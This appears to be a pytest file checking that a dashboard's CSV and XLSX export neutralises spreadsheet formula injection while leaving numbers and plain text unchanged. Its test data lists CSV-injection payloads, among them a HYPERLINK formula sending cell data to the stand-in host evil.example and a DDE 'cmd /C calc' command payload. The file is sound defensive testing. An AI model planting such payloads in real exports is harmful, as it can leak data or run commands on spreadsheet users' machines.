"""CSV injection: text cells that a spreadsheet would run as a formula leave the app defused, in CSV and
XLSX alike; numbers, dates and ordinary text are untouched."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboard import export

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Avaa")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)",
           "\t=1+1"]  # fmt: skip


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "name": [*HOSTILE, "Kärkihanke", "-5", "+3,5", "\r=1+1", None],
        "value": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, -7.25, 8.0, 9.0, None],
        "=kaava": ["x"] * 10,
    })  # fmt: skip


def test_csv_defuses_formulas_and_keeps_everything_else() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(frame()).decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "value", "'=kaava"]  # headers too
    names = [row[0] for row in rows[1:]]
    assert names[: len(HOSTILE)] == [f"'{text}" for text in HOSTILE]
    assert names[len(HOSTILE) :] == ["Kärkihanke", "-5", "+3,5", "'\r=1+1", ""]  # plain numbers are no formulas
    assert [row[1] for row in rows[1:4]] == ["-1.5", "2.0", "-3.0"]  # numeric columns untouched


def test_xlsx_has_no_formula_cells_and_defused_text() -> None:
    sheet = load_workbook(io.BytesIO(export.to_xlsx(frame(), "hankkeet"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = [cell.value for cell in sheet["A"][1:]]
    assert names[: len(HOSTILE)] == [f"'{text}" for text in HOSTILE]
    assert sheet["B2"].value == -1.5 and sheet["C1"].value == "'=kaava"


@pytest.mark.parametrize("text", ["http://example.fi/hanke", "mailto:x@example.fi"])
def test_xlsx_keeps_urls_as_text(text: str) -> None:
    sheet = load_workbook(io.BytesIO(export.to_xlsx(pd.DataFrame({"url": [text]})))).active
    assert sheet["A2"].value == text and sheet["A2"].hyperlink is None


def test_the_shown_frame_is_not_modified() -> None:
    shown = frame()
    export.to_csv(shown)
    export.to_xlsx(shown)
    pd.testing.assert_frame_equal(shown, frame())
